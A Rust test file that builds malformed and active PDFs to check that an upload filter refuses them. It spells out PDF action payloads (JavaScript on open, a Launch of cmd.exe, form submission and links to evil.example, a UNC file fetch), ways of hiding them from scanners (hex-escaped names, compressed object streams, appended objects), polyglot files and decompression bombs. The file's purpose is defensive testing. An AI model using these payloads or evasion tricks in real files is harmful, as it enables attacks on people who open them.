//! PDF: each thing that acts, in each way to hide it; and files that are not whole, or something else as well.

use std::io::Write;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use para11::reply::document::Refusal;

use super::archive::archive;
use super::{Case, refused, taken};

/// What acts, as entries of a dictionary.
const ACTIVE: [(&str, &str); 18] = [
    (
        "a script on opening",
        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    ),
    ("a script by its name", "/Names << /JavaScript 9 0 R >>"),
    ("a script in a stream", "/A << /S /Rendered /JS 9 0 R >>"),
    ("a program", "/A << /S /Launch /F (cmd.exe) >>"),
    ("additional actions", "/AA << /O 9 0 R >>"),
    ("files", "/Names << /EmbeddedFiles 9 0 R >>"),
    ("a file", "/Type /EmbeddedFile"),
    ("a file by its place", "/Type /Filespec /EF << /F 9 0 R >>"),
    ("rich media", "/Subtype /RichMedia"),
    ("an old form", "/AcroForm << /XFA 9 0 R >>"),
    (
        "a form that sends itself",
        "/A << /S /SubmitForm /F (https://evil.example) >>",
    ),
    ("data that are read", "/A << /S /ImportData /F (a) >>"),
    ("a file in a file", "/A << /S /GoToE /T << /R /C >> >>"),
    ("a rendition", "/A << /S /Rendition >>"),
    ("a film", "/Subtype /Movie"),
    (
        "a page of the net on opening",
        "/OpenAction << /S /URI /URI (https://evil.example) >>",
    ),
    (
        "another file on opening",
        "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>",
    ),
    (
        "more after going to a page",
        "/OpenAction << /S /GoTo /D [2 0 R /Fit] /Next 9 0 R >>",
    ),
];

/// A file of these objects, numbered from 1.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut places = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        places.push(bytes.len());
        bytes.extend(format!("{} 0 obj\n", number + 1).bytes());
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let table = bytes.len();
    bytes.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        bytes.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let size = objects.len() + 1;
    bytes.extend(
        format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n").bytes(),
    );
    bytes
}

/// A file whose catalogue has more entries, with more objects behind the page.
fn with(entries: &str, more: &[Vec<u8>]) -> Vec<u8> {
    let catalogue = format!("<< /Type /Catalog /Pages 2 0 R {entries} >>");
    let mut objects = vec![
        catalogue.into_bytes(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_vec(),
    ];
    objects.extend(more.iter().cloned());
    pdf(&objects)
}

fn packed(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn stream(entries: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("<< {entries} /Length {} >>\nstream\n", content.len());
    [head.as_bytes(), content, b"\nendstream"].concat()
}

/// A stream of objects, the second of which is what is given.
fn objects(entries: &str, second: &str, pack: impl Fn(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let first = "<< /A 1 >>";
    let head = format!("20 0 21 {} ", first.len() + 1);
    let all = format!("{head}{first} {second}");
    stream(
        &format!("/Type /ObjStm /N 2 /First {} {entries}", head.len()),
        &pack(all.as_bytes()),
    )
}

const FLATE: &str = "/Filter /FlateDecode";

/// The names with some or all letters as numbers.
fn escaped(entries: &str, which: impl Fn(usize) -> bool) -> String {
    let mut escaped = String::new();
    let mut place = None;
    for letter in entries.chars() {
        place = match (letter, place) {
            ('/', _) => Some(0),
            (letter, Some(at)) if letter.is_ascii_alphanumeric() => {
                if which(at) {
                    escaped.push_str(&format!("#{:02x}", u32::from(letter)));
                    place = Some(at + 1);
                    continue;
                }
                Some(at + 1)
            }
            _ => None,
        };
        escaped.push(letter);
    }
    escaped
}

/// Each thing that acts, hidden in each way.
fn hidden() -> Vec<Case> {
    let mut cases = Vec::new();
    for (what, entries) in ACTIVE {
        let dictionary = format!("<< {entries} >>");
        let one = escaped(entries, |at| at == 1);
        let all = escaped(entries, |_| true);
        let sound = with("", &[]);
        let object = format!("9 0 obj{dictionary}endobj\n");
        let ways: [(&str, Vec<u8>); 8] = [
            ("plainly", with(entries, &[])),
            ("with a letter as a number", with(&one, &[])),
            ("with all letters as numbers", with(&all, &[])),
            (
                "in a packed stream of objects",
                with("", &[objects(FLATE, &dictionary, packed)]),
            ),
            (
                "in one with letters as numbers",
                with(
                    "",
                    &[objects(
                        "/#46ilter [/Flate#44ecode]",
                        &format!("<< {all} >>"),
                        packed,
                    )],
                ),
            ),
            (
                "in a stream of objects that is not packed",
                with("", &[objects("", &dictionary, <[u8]>::to_vec)]),
            ),
            (
                "behind the end",
                [
                    &sound[..],
                    object.as_bytes(),
                    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n",
                ]
                .concat(),
            ),
            (
                "in an object that no table names",
                with(&format!("/A (a) >> endobj 8 0%\nobj << {entries} "), &[]),
            ),
        ];
        for (how, content) in ways {
            cases.push(refused(
                &format!("{what} {how}"),
                "a.pdf",
                &content,
                Refusal::ActivePdf,
            ));
        }
    }
    cases
}

/// Streams of objects that cannot be looked through.
#[expect(clippy::too_many_lines, reason = "a list of cases")]
fn unreadable() -> Vec<Case> {
    let script = "<< /S /JavaScript /JS (a) >>";
    let as_digits = |bytes: &[u8]| hex::encode(bytes).into_bytes();
    let ways = [
        (
            "in digits",
            with("", &[objects("/Filter /ASCIIHexDecode", script, as_digits)]),
        ),
        (
            "in digits, short",
            with("", &[objects("/Filter /AHx", script, as_digits)]),
        ),
        (
            "packed and in digits",
            with(
                "",
                &[objects(
                    "/Filter [/ASCIIHexDecode /FlateDecode]",
                    script,
                    |b| as_digits(&packed(b)),
                )],
            ),
        ),
        (
            "packed twice",
            with(
                "",
                &[objects(
                    "/Filter [/FlateDecode /FlateDecode]",
                    script,
                    |b| packed(&packed(b)),
                )],
            ),
        ),
        (
            "with a predictor",
            with(
                "",
                &[objects(
                    "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
                    script,
                    packed,
                )],
            ),
        ),
        (
            "packed as another object says",
            with("", &[objects("/Filter 9 0 R", script, as_digits)]),
        ),
        (
            "packed and damaged",
            with(
                "",
                &[objects(FLATE, script, |b| {
                    let mut b = packed(b);
                    b[9] ^= 0xff;
                    b
                })],
            ),
        ),
        (
            "packed and cut",
            with(
                "",
                &[stream(
                    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                    &packed(b"5 0 << /JS 1 >>")[..8],
                )],
            ),
        ),
        (
            "whose first is elsewhere",
            with(
                "",
                &[stream(
                    "/Type /ObjStm /N 1 /First 9 0 R",
                    b"5 0 << /JS 1 >>",
                )],
            ),
        ),
        (
            "whose count is missing",
            with("", &[stream("/Type /ObjStm /First 4", b"5 0 << /JS 1 >>")]),
        ),
        (
            "whose first is 0",
            with(
                "",
                &[stream("/Type /ObjStm /N 1 /First 0", b"5 4 << /JS 1 >>")],
            ),
        ),
        (
            "whose count is a lie",
            with(
                "",
                &[stream("/Type /ObjStm /N 9 /First 4", b"5 0 << /A 1 >>")],
            ),
        ),
        (
            "with a string that does not end",
            with(
                "",
                &[stream(
                    "/Type /ObjStm /N 2 /First 8",
                    b"5 0 6 4 (a  << /JS 1 >>",
                )],
            ),
        ),
        (
            "with brackets that do not match",
            with(
                "",
                &[stream(
                    "/Type /ObjStm /N 1 /First 4",
                    b"5 0 << /A 1 ] /JS 1 >>",
                )],
            ),
        ),
        (
            "that says another type",
            with(
                "",
                &[stream("/Type /Metadata /N 1 /First 4", b"5 0 << /JS 1 >>")],
            ),
        ),
        ("with an action elsewhere", with("/OpenAction 99 0 R", &[])),
    ];
    ways.map(|(how, content)| {
        let what = format!("a stream of objects {how}");
        refused(&what, "a.pdf", &content, Refusal::ActivePdf)
    })
    .into()
}

#[expect(clippy::too_many_lines, reason = "a list of cases")]
pub(super) fn cases() -> Vec<Case> {
    let sound = with("", &[]);
    let zip = archive(&[("a.html", b"<script>alert(1)</script>")]);
    let close = with("", &[stream("", &zip)]);
    let blanks = vec![b' '; 65 << 20];
    let mut cases = vec![
        refused(
            "a page before a pdf",
            "a.pdf",
            &[b"<html>", &sound[..]].concat(),
            Refusal::Content,
        ),
        refused(
            "an archive behind a pdf",
            "a.pdf",
            &[&sound[..], &zip].concat(),
            Refusal::Content,
        ),
        refused(
            "an archive in the end of a pdf",
            "a.pdf",
            &close,
            Refusal::Content,
        ),
        refused(
            "zeros behind a pdf",
            "a.pdf",
            &[&sound[..], &[0; 100]].concat(),
            Refusal::Content,
        ),
        refused(
            "a password",
            "a.pdf",
            &put_once(&sound, b"/Root", b"/Encrypt << /Filter /Standard >> /Root"),
            Refusal::Locked,
        ),
        refused(
            "a password in a stream of places",
            "a.pdf",
            &with(
                "",
                &[stream("/Type /XRef /Encrypt 9 0 R /W [1 2 1]", b"abcd")],
            ),
            Refusal::Locked,
        ),
        refused(
            "a password with letters as numbers",
            "a.pdf",
            &with("", &[stream("/Type /XRef /E#6ecrypt 9 0 R", b"abcd")]),
            Refusal::Locked,
        ),
        refused(
            "objects that unpack to 65 MiB",
            "a.pdf",
            &with(
                "",
                &[stream(
                    "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
                    &packed(&blanks),
                )],
            ),
            Refusal::Bomb,
        ),
        refused(
            "objects that lie in each other",
            "a.pdf",
            &with(&"1 0 obj(".repeat(20_000), &[]),
            Refusal::Bomb,
        ),
        refused(
            "brackets that do not end",
            "a.pdf",
            &with(&"[".repeat(5_000), &[]),
            Refusal::Bomb,
        ),
        refused(
            "a picture called pdf",
            "a.pdf",
            b"\x89PNG\r\n\x1a\nand so on",
            Refusal::Content,
        ),
        refused(
            "a page called pdf",
            "a.pdf",
            b"<!DOCTYPE html>%PDF-1.7 %%EOF",
            Refusal::Content,
        ),
        refused(
            "PostScript called pdf",
            "a.pdf",
            b"%!PS-Adobe-3.0\n%%EOF",
            Refusal::Content,
        ),
        refused("a pdf called txt", "a.txt", &sound, Refusal::Content),
        refused("a pdf called png", "a.png", &sound, Refusal::Content),
        refused("a pdf called docx", "a.docx", &sound, Refusal::Content),
        taken(
            "a view of a page on opening",
            "a.pdf",
            &with("/OpenAction [3 0 R /XYZ null null 0]", &[]),
        ),
        taken(
            "going to a page on opening",
            "a.pdf",
            &with(
                "/OpenAction 4 0 R",
                &[b"<< /S /GoTo /D [3 0 R /Fit] >>".to_vec()],
            ),
        ),
        taken(
            "names of scripts in words and addresses run nothing",
            "a.pdf",
            &with(
                "/Title (see /JS and /Launch) /A << /S /URI /URI (https://example.org/JS/AA/) >>",
                &[],
            ),
        ),
        taken(
            "a page of the net in a comment is never shown as one",
            "a.pdf",
            &with("%<html><script>alert(1)</script>\n", &[]),
        ),
        taken(
            "objects in a stream that do nothing",
            "a.pdf",
            &with("", &[objects(FLATE, "<< /Title (a) >>", packed)]),
        ),
        taken(
            "fields to fill in run nothing",
            "a.pdf",
            &with("/AcroForm << /Fields [] >>", &[]),
        ),
    ];
    for tenth in 1..10 {
        let cut = &sound[..sound.len() * tenth / 10];
        cases.push(refused(
            &format!("a pdf cut at {tenth} tenths"),
            "a.pdf",
            cut,
            Refusal::Content,
        ));
    }
    cases.extend(hidden());
    cases.extend(unreadable());
    cases
}

/// The same bytes with these put for the first of those.
fn put_once(content: &[u8], sought: &[u8], put: &[u8]) -> Vec<u8> {
    let mut windows = content.windows(sought.len());
    let at = windows.position(|window| window == sought).unwrap();
    [&content[..at], put, &content[at + sought.len()..]].concat()
}
